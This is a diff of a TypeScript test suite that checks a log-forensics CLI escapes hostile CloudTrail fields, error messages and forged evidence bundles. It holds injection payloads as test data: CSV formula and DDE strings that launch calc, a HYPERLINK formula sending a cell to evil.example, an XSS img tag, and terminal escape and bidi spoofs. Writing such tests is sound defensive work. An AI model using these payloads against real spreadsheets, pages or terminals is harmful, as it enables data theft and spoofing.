@@ -30,8 +30,8 @@ const PAYLOADS = {
   bidi: 'user\u202etxt.exe',
   separators: 'a\u2028b\u2029c',
   formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  plus: '+cmd|\'/C calc\'!A0',
-  at: '@SUM(1+1)*cmd|\'/C calc\'!A0',
+  plus: "+cmd|'/C calc'!A0",
+  at: "@SUM(1+1)*cmd|'/C calc'!A0",
   tab: '\t=1+1',
   html: '<img src=x onerror=alert(1)>&amp;',
   markdownRow: 'x | y\r| injected | row',
@@ -86,14 +86,47 @@ describe('terminal, CSV and Markdown escaping (unit)', () => {
 describe('hostile log records through the CLI', () => {
   const tmp = tempDir('casebook-hostile-');
   const lake = join(tmp.dir, 'lake');
-  const base = { eventVersion: '1.09', eventSource: 'cloudtrail.amazonaws.com', awsRegion: 'us-east-1', eventType: 'AwsApiCall', recipientAccountId: '111122223333', readOnly: false, responseElements: null };
-  const attacker = { type: 'IAMUser', principalId: 'AIDAX', arn: `arn:aws:iam::111122223333:user/${PAYLOADS.bidi}`, accountId: '111122223333', userName: PAYLOADS.bidi };
+  const base = {
+    eventVersion: '1.09',
+    eventSource: 'cloudtrail.amazonaws.com',
+    awsRegion: 'us-east-1',
+    eventType: 'AwsApiCall',
+    recipientAccountId: '111122223333',
+    readOnly: false,
+    responseElements: null,
+  };
+  const attacker = {
+    type: 'IAMUser',
+    principalId: 'AIDAX',
+    arn: `arn:aws:iam::111122223333:user/${PAYLOADS.bidi}`,
+    accountId: '111122223333',
+    userName: PAYLOADS.bidi,
+  };
   const records = Object.entries(PAYLOADS).map(([key, payload], i) => ({
-    ...base, userIdentity: attacker, eventTime: `2024-03-02T10:${String(i).padStart(2, '0')}:00Z`, eventName: 'StopLogging',
-    sourceIPAddress: '203.0.113.66', userAgent: payload, requestParameters: { name: payload }, eventID: `h0000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
+    ...base,
+    userIdentity: attacker,
+    eventTime: `2024-03-02T10:${String(i).padStart(2, '0')}:00Z`,
+    eventName: 'StopLogging',
+    sourceIPAddress: '203.0.113.66',
+    userAgent: payload,
+    requestParameters: { name: payload },
+    eventID: `h0000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
     errorMessage: key,
   }));
-  const run = (format: string) => cli(['run', 'trail-tampering', '--lake', lake, '--since', '2024-03-01', '--until', '2024-03-04', '--format', format, '--include-failed']);
+  const run = (format: string) =>
+    cli([
+      'run',
+      'trail-tampering',
+      '--lake',
+      lake,
+      '--since',
+      '2024-03-01',
+      '--until',
+      '2024-03-04',
+      '--format',
+      format,
+      '--include-failed',
+    ]);
 
   beforeAll(() => writeRecordsLake(lake, { cloudtrail: records }));
   afterAll(() => tmp.cleanup());
@@ -134,7 +167,16 @@ describe('hostile log records through the CLI', () => {
   });
 
   it('an error quoting a hostile file name reaches stderr escaped, on one line', async () => {
-    const r = await cli(['run', 'trail-tampering', '--lake', join(tmp.dir, 'no\x1b]0;title\x07lake'), '--since', '2024-03-01', '--until', '2024-03-02']);
+    const r = await cli([
+      'run',
+      'trail-tampering',
+      '--lake',
+      join(tmp.dir, 'no\x1b]0;title\x07lake'),
+      '--since',
+      '2024-03-01',
+      '--until',
+      '2024-03-02',
+    ]);
     expect(r.code).toBe(2); // a missing lake directory is a usage mistake
     expect(r.stderr).toContain('no\\x1b]0;title\\x07lake');
     expect(RAW_CONTROL.test(r.stderr)).toBe(false);
@@ -175,8 +217,10 @@ describe('forged evidence bundles', () => {
     manifest.report.name = `fixture-report\x1b[2K\r\x1b[1A\x1b[2Kmanifest.json SHA-256 ${recorded}\n\u202e`;
     const manifestText = `${JSON.stringify(manifest, null, 2)}\n`;
     writeFileSync(join(dir, 'manifest.json'), manifestText);
-    const sums = [...Object.keys(manifest.files), 'manifest.json'].sort()
-      .map((p) => `${p === 'manifest.json' ? sha256(manifestText) : manifest.files[p].sha256}  ${p}\n`).join('');
+    const sums = [...Object.keys(manifest.files), 'manifest.json']
+      .sort()
+      .map((p) => `${p === 'manifest.json' ? sha256(manifestText) : manifest.files[p].sha256}  ${p}\n`)
+      .join('');
     writeFileSync(join(dir, 'SHA256SUMS'), sums);
   }
 
@@ -194,14 +238,18 @@ describe('forged evidence bundles', () => {
 
     const expecting = await cli(['verify', dir, '--expect-sha256', recorded]);
     expect(expecting.code).toBe(1);
-    expect(expecting.stderr).toBe(`casebook: bundle ${dir} is NOT the recorded one: its manifest.json SHA-256 is ${shown}, not the expected ${recorded}\n`);
+    expect(expecting.stderr).toBe(
+      `casebook: bundle ${dir} is NOT the recorded one: its manifest.json SHA-256 is ${shown}, not the expected ${recorded}\n`,
+    );
     expect(expecting.stdout).not.toContain('is intact');
   });
 
   it('--expect-sha256 passes the untouched bundle, and refuses a malformed hash', async () => {
     const ok = await cli(['verify', original, '--expect-sha256', recorded.toUpperCase()]);
     expect(ok.code, ok.stderr).toBe(0);
-    expect(ok.stdout).toMatch(/is intact: 16 files match the manifest, and manifest\.json has the expected SHA-256 \(report fixture-report/);
+    expect(ok.stdout).toMatch(
+      /is intact: 16 files match the manifest, and manifest\.json has the expected SHA-256 \(report fixture-report/,
+    );
     const bad = await cli(['verify', original, '--expect-sha256', 'abc']);
     expect(bad.code).toBe(2);
     expect(bad.stderr).toBe('casebook: --expect-sha256 "abc" is not a SHA-256 (64 hexadecimal digits)\n');
@@ -221,7 +269,9 @@ describe('forged evidence bundles', () => {
     writeFileSync(join(dir, 'manifest.json'), 'SECRET\x1b]0;t\x07 not json');
     const r = await cli(['verify', dir]);
     expect(r.code).toBe(2);
-    expect(r.stderr).toMatch(/^casebook: .*manifest\.json is not valid JSON( \(at position \d+\))?: the manifest is damaged, so the bundle cannot be verified\n$/);
+    expect(r.stderr).toMatch(
+      /^casebook: .*manifest\.json is not valid JSON( \(at position \d+\))?: the manifest is damaged, so the bundle cannot be verified\n$/,
+    );
     expect(r.stderr).not.toContain('SECRET');
   });
 });
